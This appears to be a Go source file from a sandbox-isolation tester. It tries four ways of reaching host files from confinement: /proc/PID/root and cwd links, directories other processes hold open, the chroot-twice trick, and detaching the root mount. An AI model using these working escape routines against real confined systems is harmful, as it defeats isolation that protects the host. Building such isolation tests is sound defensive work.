// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

func linkAttacks() []attack {
	return []attack{
		{
			"roots-of-processes", "follows /proc/PID/root and cwd of all processes that it sees",
			"every file of the host", rootsOfProcesses,
		},
		{
			"open-directories", "goes up from every directory that it or another process has open (/proc/PID/fd, its own descriptors)",
			"every file of the host", openDirectories,
		},
		{
			"chroot-twice", "changes its root below its working directory and goes up from there",
			"every file above the machine's root", chrootTwice,
		},
		{
			"root-taken-away", "unmounts its root, enters its mount namespace again, and looks at what is below",
			"every file of the host", rootTakenAway,
		},
	}
}

// processes are the ids of all processes that are seen.
func processes() []int {
	entries, _ := os.ReadDir("/proc") // without it nothing is seen
	var all []int
	for _, entry := range entries {
		if pid, err := strconv.Atoi(entry.Name()); err == nil {
			all = append(all, pid)
		}
	}
	return all
}

func rootsOfProcesses(w *world) finding {
	var tried ways
	seen := processes()
	for _, pid := range seen {
		for _, link := range []string{"root", "cwd"} {
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, link), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				tried.add("opening "+link+" of a process", err)
				continue
			}
			f, ok := w.fromRoot(fd, fmt.Sprintf("/proc/%d/%s", pid, link))
			_ = unix.Close(fd)
			if ok {
				return f
			}
		}
	}
	if !tried.held {
		return held("the %d processes that are seen are the machine's", len(seen))
	}
	return tried.finding()
}

func openDirectories(w *world) finding {
	var tried ways
	seen := 0
	for _, pid := range processes() {
		dir := fmt.Sprintf("/proc/%d/fd", pid)
		entries, err := os.ReadDir(dir)
		if err != nil {
			tried.add("listing descriptors of a process", err)
			continue
		}
		for _, entry := range entries {
			seen++
			// Opened by the link, a directory leads up along the mounts that it is on.
			fd, err := unix.Open(filepath.Join(dir, entry.Name()), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil { // another kind of file
				continue
			}
			f, ok := w.goUp(fd, "a directory that process "+strconv.Itoa(pid)+" has open")
			_ = unix.Close(fd)
			if ok {
				return f
			}
		}
	}
	if !tried.held {
		return held("none of %d descriptors leads out", seen)
	}
	return tried.finding()
}

// goUp looks for the host's file in a directory and all those above it.
func (w *world) goUp(fd int, how string) (finding, bool) {
	const most = 64
	at, err := unix.Dup(fd)
	if err != nil {
		return finding{}, false
	}
	defer func() { _ = unix.Close(at) }()
	for range most {
		if f, ok := w.fromRoot(at, how); ok {
			return f, true
		}
		var here, above unix.Stat_t
		up, err := unix.Openat(at, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return finding{}, false
		}
		same := unix.Fstat(at, &here) != nil || unix.Fstat(up, &above) != nil || here.Dev == above.Dev && here.Ino == above.Ino
		_ = unix.Close(at)
		at = up
		if same {
			return finding{}, false
		}
	}
	return finding{}, false
}

func chrootTwice(w *world) finding {
	if w.Disk == "" {
		return notHere("-disk is not given")
	}
	dir, err := os.MkdirTemp(w.Disk, "escape-")
	if err != nil {
		return refused("making a directory", err)
	}
	defer func() { _ = os.Remove(dir) }() //nolint:gosec // G703: the paths are those of whoever runs it
	here, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("opening its working directory", err)
	}
	root, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("opening its root", err)
	}
	if err := unix.Chroot(dir); err != nil {
		return refused("changing its root", err)
	}
	defer func() { // so that the directory can be removed by its path
		_ = unix.Fchdir(root)
		_ = unix.Chroot(".")
	}()
	if f, ok := w.goUp(here, "above its root, after chroot"); ok {
		return f
	}
	return held("nothing of the host is above the machine's root")
}

func rootTakenAway(w *world) finding {
	if w.private != nil {
		return refused("taking a mount namespace", w.private)
	}
	own, err := unix.Open("/proc/self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("opening its own mount namespace", err)
	}
	var tried ways
	if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
		tried.add("unmounting its root", err)
	}
	if err := unix.Setns(own, unix.CLONE_NEWNS); err != nil {
		tried.add("entering its own mount namespace again", err)
		return tried.finding()
	}
	root, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		tried.add("opening what is below", err)
		return tried.finding()
	}
	if f, ok := w.goUp(root, "below the machine's root"); ok {
		return f
	}
	tried.add("the host's file is not below the machine's root", unix.EPERM)
	return held("%s", tried.summary())
}
